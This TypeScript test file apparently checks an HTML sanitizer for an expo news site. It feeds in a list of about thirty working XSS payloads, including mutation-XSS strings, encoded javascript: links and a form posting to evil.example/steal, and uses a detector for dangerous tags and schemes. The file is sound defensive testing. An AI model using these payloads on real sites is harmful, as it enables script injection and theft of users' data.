import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { clearSanitizeCache, sanitizeRichText } from '../../../../src/lib/content/sanitize.ts';

const productHosts = ['expo.cn', 'expo-global.com'];
const clean = (html: string): string => sanitizeRichText(html, { productHosts });

const dangerousTags =
  'script, svg, math, iframe, frame, frameset, object, embed, form, input, style, base, meta, link, template, noscript, textarea, button';

// Parses the output the way a browser would and reports anything that could run script,
// load a foreign document or restyle the page.
function findDanger(html: string): string[] {
  const { document } = new JSDOM(`<!doctype html><body>${html}</body>`).window;
  const found: string[] = [];
  for (const element of document.body.querySelectorAll('*')) {
    if (element.matches(dangerousTags)) found.push(`<${element.localName}>`);
    for (const attribute of element.attributes) {
      // Browsers ignore whitespace and control characters inside a URL scheme ('java\tscript:').
      let value = '';
      for (let index = 0; index < attribute.value.length; index += 1) {
        if (attribute.value.charCodeAt(index) > 0x20) value += attribute.value.charAt(index);
      }
      if (attribute.name.startsWith('on') || attribute.name === 'srcdoc') found.push(attribute.name);
      if (/^(?:javascript|vbscript):/i.test(value)) found.push(`${attribute.name}=${attribute.value}`);
      if (/^data:/i.test(value) && !/^data:image\/(?:png|jpe?g|gif|webp|avif|bmp);/i.test(value)) {
        found.push(`${attribute.name}=${attribute.value}`);
      }
      if (
        attribute.name === 'style' &&
        /url|expression|\(/i.test(value.replace(/(?:rgba?|hsla?)\([^)]*\)/gi, ''))
      ) {
        found.push(`style=${attribute.value}`);
      }
    }
  }
  return found;
}

const xssPayloads: Record<string, string> = {
  'image error handler': '<img src=x onerror=alert(1)>',
  'script inside svg': '<svg><script>alert(1)</script></svg>',
  'svg onload': '<svg onload=alert(1)><circle r=10 /></svg>',
  'mixed-case javascript: link': '<a href="JaVaScRiPt:alert(1)">click</a>',
  'entity-encoded javascript: link': '<a href="&#106;avascript:alert(1)">click</a>',
  'hex-entity and tab javascript: link': '<a href="&#x6A;ava&#x09;script&#x3A;alert(1)">click</a>',
  'javascript: link with leading spaces': '<a href="  javascript:alert(1)">click</a>',
  'iframe srcdoc': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'iframe src javascript': '<iframe src="javascript:alert(1)"></iframe>',
  'style block @import': '<style>@import url(//evil.example/x.css);</style><p>text</p>',
  'math mXSS': '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  'form mXSS': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'noscript mXSS': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'form action': '<form action="https://evil.example/steal"><input name="q"><button>go</button></form>',
  'object data': '<object data="https://evil.example/x.swf"></object>',
  'embed src': '<embed src="https://evil.example/x.swf">',
  'base href': '<base href="https://evil.example/">',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'style url(javascript:)': '<div style="background:url(javascript:alert(1))">x</div>',
  'style expression()': '<div style="width: expression(alert(1))">x</div>',
  'data:text/html link': '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  'svg data image': '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
  'nested script tag split': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'uppercase tags': '<IMG SRC=x ONERROR=alert(1)><SCRIPT>alert(1)</SCRIPT>',
  'details ontoggle': '<details open ontoggle=alert(1)><summary>s</summary>x</details>',
  'template content': '<template><img src=x onerror=alert(1)></template>',
  'video poster and source error': '<video poster="javascript:alert(1)"><source onerror="alert(1)"></video>',
  'area href in image map': '<map name="m"><area href="javascript:alert(1)"></map>',
  'comment breakout': '<!--<img src=x onerror=alert(1)>-->',
  'textarea breakout': '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  'link element': '<link rel="stylesheet" href="https://evil.example/x.css">',
};

describe('sanitizeRichText', () => {
  describe('against XSS payloads', () => {
    for (const [name, payload] of Object.entries(xssPayloads)) {
      it(`neutralises ${name}`, () => {
        const output = clean(payload);
        expect(findDanger(output)).toEqual([]);
        // Inert text may remain (a broken-up tag shows as text); no markup or URL may carry script.
        expect(output).not.toMatch(/<script|javascript:/i);
        // Stable under a second pass and under the browser's re-parse: no mutation left to exploit.
        expect(clean(output)).toBe(output);
        const reparsed = new JSDOM(`<body>${output}</body>`).window.document.body.innerHTML;
        expect(reparsed).toBe(output);
      });
    }
  });

  it('removes scripts, svg, iframes, objects and style blocks but keeps the surrounding text', () => {
    expect(
      clean(
        '<p>before</p><script>alert(1)</script><svg><text>vector</text></svg><iframe src="/x"></iframe><p>after</p>',
      ),
    ).toBe('<p>before</p><p>after</p>');
    expect(clean('<form action="/search"><p>inside a form</p></form>')).toBe('<p>inside a form</p>');
  });

  it('keeps formatting markup, images, tables and product links', () => {
    const html =
      '<h2>标题</h2><p><strong>加粗</strong> <em>斜体</em></p><p><img src="https://img.expo.cn/a.jpg" alt="展馆"></p>' +
      '<table><tbody><tr><td>1</td><td></td></tr></tbody></table><p><a href="/information/1.html">站内</a></p>';
    expect(clean(html)).toBe(html);
  });

  it('gives pictures on the storage path the storage origin and the webp query, and no other address', () => {
    const html =
      '<p><img src="/oss/a.jpg" alt="a"><img src="/ossx/b.jpg" alt="b"><img src="https://img.expo.cn/oss/c.jpg" alt="c"></p>' +
      '<video><source src="/oss/d.mp4"></video><p><a href="/oss/e.pdf">file</a></p>';
    expect(sanitizeRichText(html, { productHosts, storageOrigin: 'https://static.expo.cn' })).toBe(
      '<p><img src="https://static.expo.cn/oss/a.jpg?x-oss-process=image/format,webp/quality,q_100" alt="a">' +
        '<img src="/ossx/b.jpg" alt="b">' +
        '<img src="https://img.expo.cn/oss/c.jpg" alt="c"></p>' +
        '<video><source src="https://static.expo.cn/oss/d.mp4"></video><p><a href="/oss/e.pdf">file</a></p>',
    );
    expect(sanitizeRichText('<p><img src="/oss/a.jpg" alt="a"></p>', { productHosts })).toBe(
      '<p><img src="/oss/a.jpg" alt="a"></p>',
    );
  });

  it('converts article images on the storage host to webp as cards are, keeping their query, never svg or gif', () => {
    const storageOrigin = 'https://static.expo.cn';
    const html =
      '<p><img src="https://static.expo.cn/news/a.png?v=3" alt="a"></p>' +
      '<p><img src="//static.expo.cn/news/b.jpg" alt="b"></p>' +
      '<p><img src="/oss/c.svg" alt="c"><img src="https://static.expo.cn/d.gif" alt="d"></p>' +
      '<p><img src="https://static.expo.cn/e.jpg?x-oss-process=image/resize,w_100" alt="e"></p>';
    expect(sanitizeRichText(html, { productHosts, storageOrigin })).toBe(
      '<p><img src="https://static.expo.cn/news/a.png?v=3&amp;x-oss-process=image/format,webp/quality,q_100" alt="a"></p>' +
        '<p><img src="//static.expo.cn/news/b.jpg?x-oss-process=image/format,webp/quality,q_100" alt="b"></p>' +
        '<p><img src="https://static.expo.cn/oss/c.svg" alt="c"><img src="https://static.expo.cn/d.gif" alt="d"></p>' +
        '<p><img src="https://static.expo.cn/e.jpg?x-oss-process=image/resize,w_100" alt="e"></p>',
    );
  });

  it('keeps harmless inline styles and drops dangerous or layout-breaking ones', () => {
    expect(clean('<p style="text-align:center;color:rgb(255, 0, 0);position:fixed;top:0">x</p>')).toBe(
      '<p style="text-align: center; color: rgb(255, 0, 0)">x</p>',
    );
    expect(clean('<p style="position:fixed">x</p>')).toBe('<p>x</p>');
  });

  it('removes event-handler attributes', () => {
    expect(clean('<p onclick="steal()" onmouseover="steal()">text</p>')).toBe('<p>text</p>');
  });

  it('keeps raster data images and drops every other data: address', () => {
    const png = 'data:image/png;base64,iVBORw0KGgo=';
    expect(clean(`<p><img src="${png}" alt="shot"></p>`)).toBe(`<p><img src="${png}" alt="shot"></p>`);
    expect(clean('<p>a<img src="data:text/html,x"></p>')).toBe('<p>a</p>');
  });

  describe('links', () => {
    it('unwraps links to foreign hosts and keeps their text', () => {
      expect(clean('<p>详见<a href="https://other.example/a">外部报道</a>。</p>')).toBe(
        '<p>详见外部报道。</p>',
      );
    });

    it('keeps relative links, product hosts and their subdomains', () => {
      const html =
        '<p><a href="/exhibition/1.html">a</a> <a href="news/2.html">b</a> <a href="#part">c</a> ' +
        '<a href="https://www.expo.cn/x">d</a> <a href="//m.expo.cn/y">e</a> <a href="https://EXPO-GLOBAL.com/z">f</a></p>';
      expect(clean(html)).toBe(html);
    });

    it('does not take a host that merely ends with a product host name for a subdomain', () => {
      expect(clean('<p><a href="https://evilexpo.cn/a">x</a></p>')).toBe('<p>x</p>');
      expect(clean('<p><a href="https://expo.cn.evil.example/a">x</a></p>')).toBe('<p>x</p>');
    });

    it('unwraps backslash and scheme tricks the way browsers would resolve them', () => {
      expect(clean('<p><a href="/\\evil.example/a">x</a></p>')).toBe('<p>x</p>');
      expect(clean('<p><a href="https:\\\\evil.example">x</a></p>')).toBe('<p>x</p>');
      expect(clean('<p><a href="mailto:a@b.cn">mail</a> <a href="ftp://expo.cn/f">ftp</a></p>')).toBe(
        '<p>mail ftp</p>',
      );
    });

    it('unwraps phone links and removes the number they show', () => {
      expect(clean('<p>拨打<a href="tel:13812345678">13812345678</a>咨询</p>')).toBe('<p>拨打咨询</p>');
    });

    it('treats only relative links as product links when no host is configured', () => {
      expect(sanitizeRichText('<p><a href="https://expo.cn/">x</a><a href="/y">y</a></p>')).toBe(
        '<p>x<a href="/y">y</a></p>',
      );
    });
  });

  describe('phone numbers', () => {
    it('removes mobile, landline and service numbers from running Chinese text', () => {
      const html =
        '<p>报名请联系张先生13812345678或李女士139-1234-5678，国际来电+86 138 1234 5678，' +
        '北京010-12345678，上海021-1234-5678，深圳(0755)12345678，客服热线400-820-8820。</p>';
      expect(clean(html)).toBe('<p>报名请联系张先生或李女士，国际来电，北京，上海，深圳，客服热线。</p>');
    });

    it('keeps years, dates, prices, areas and other digit runs', () => {
      const html =
        '<p>2026年11月21日-24日举办，日期2026-11-21，门票¥1380.00，面积360000平方米，' +
        '订单号202611211234567890，编号12345678，时间 2026-11-21 09:30。</p>';
      expect(clean(html)).toBe(html);
    });

    it('keeps ids inside URLs and attributes', () => {
      const html =
        '<p><a href="/news/13812345678.html" title="13812345678">新闻</a> https://www.expo.cn/news/13812345678.html ' +
        'www.expo.cn/a/010-12345678</p><p><img src="/img/13812345678.jpg" alt="x"></p>';
      expect(clean(html)).toBe(html);
    });

    it('finds a number split by a removed link', () => {
      expect(clean('<p>电话138<a href="https://evil.example">1234</a>5678</p>')).toBe('<p>电话</p>');
    });
  });

  describe('empty tags', () => {
    it('removes nested empty tags until none is left', () => {
      expect(
        clean(
          '<div><p><span> </span><strong>&nbsp;</strong></p></div><p>text</p><section><div><em></em></div></section>',
        ),
      ).toBe('<p>text</p>');
    });

    it('keeps elements that only hold an image or a rule', () => {
      expect(clean('<p><img src="/a.jpg"></p><div><hr></div><p><span><img src="/b.jpg"></span></p>')).toBe(
        '<p><img src="/a.jpg"></p><div><hr></div><p><span><img src="/b.jpg"></span></p>',
      );
    });

    it('removes elements holding only line breaks and blanks, as editors leave them', () => {
      expect(
        clean(
          '<p>one</p><p><br></p><p>&nbsp;<br>&nbsp;</p><div><p><br/><br></p></div><p><span><br></span></p>' +
            '<ul><li><br></li></ul><h2> <br> </h2><p>two</p>',
        ),
      ).toBe('<p>one</p><p>two</p>');
    });

    it('keeps line breaks inside real content, also where an inline wrapper held only the break', () => {
      expect(
        clean('<p>line one<br>line two</p><p>a<strong><br></strong>b</p><p><img src="/a.jpg"><br></p>'),
      ).toBe('<p>line one<br>line two</p><p>a<br>b</p><p><img src="/a.jpg"><br></p>');
      expect(clean('<table><tbody><tr><td><br></td><td>x</td></tr></tbody></table>')).toBe(
        '<table><tbody><tr><td><br></td><td>x</td></tr></tbody></table>',
      );
    });

    it('removes images without an address and elements left empty by removed content', () => {
      expect(
        clean('<p><img onerror="x()"></p><div><script>x()</script></div><p><iframe src="/v"></iframe></p>'),
      ).toBe('');
    });

    it('removes comments', () => {
      expect(clean('<p>a<!-- editor note --></p>')).toBe('<p>a</p>');
    });
  });

  it('returns an empty string for empty or non-string input', () => {
    expect(sanitizeRichText('')).toBe('');
    expect(sanitizeRichText('   ')).toBe('');
    expect(sanitizeRichText(null as unknown as string)).toBe('');
  });

  it('answers from its cache for a repeated article and per product-host set', () => {
    const html = '<p><a href="https://expo.cn/a">x</a></p>';
    expect(sanitizeRichText(html, { productHosts: ['expo.cn'] })).toBe(html);
    expect(sanitizeRichText(html, { productHosts: ['other.cn'] })).toBe('<p>x</p>');
    expect(sanitizeRichText(html, { productHosts: ['expo.cn'] })).toBe(html);
  });

  it('cleans a 20 KB article in reasonable time (timing printed, not asserted)', () => {
    const paragraph =
      '<p style="text-indent:2em">2026中国国际进口博览会将于11月在上海国家会展中心举行，<strong>展览面积</strong>' +
      '超过36万平方米，联系电话 021-1234-5678，详见<a href="https://www.expo.cn/news/1.html">官网</a>与' +
      '<a href="https://other.example/">外站</a>。</p><p><img src="https://img.expo.cn/a.jpg" alt="图"></p><p><span></span></p>\n';
    const text =
      '<p>第二十六届中国国际高新技术成果交易会在深圳会展中心隆重开幕，吸引了来自全球四十多个国家和地区的三千余家企业参展。</p>\n';
    const markupHeavy = paragraph.repeat(Math.ceil(20_000 / paragraph.length));
    const textHeavy = text.repeat(Math.ceil(20_000 / text.length));
    clean('<p>warm up the shared window</p>');
    const timings: string[] = [];
    for (const [name, html] of [
      ['markup-heavy', markupHeavy],
      ['text-heavy', textHeavy],
    ] as const) {
      const runs = 20;
      // Uncached runs after a JIT warm-up: the steady state of a long-running origin process.
      for (let run = 0; run < 10; run += 1) {
        clearSanitizeCache();
        clean(html);
      }
      let cold = 0;
      for (let run = 0; run < runs; run += 1) {
        clearSanitizeCache();
        const start = performance.now();
        clean(html);
        cold += performance.now() - start;
      }
      const start = performance.now();
      for (let run = 0; run < runs; run += 1) clean(html);
      const warm = (performance.now() - start) / runs;
      timings.push(
        `${name} ${String(html.length)} chars: cold ${(cold / runs).toFixed(2)} ms, cached ${warm.toFixed(3)} ms`,
      );
      expect(findDanger(clean(html))).toEqual([]);
    }
    console.log(`sanitizeRichText timing: ${timings.join('; ')}`);
  });
});
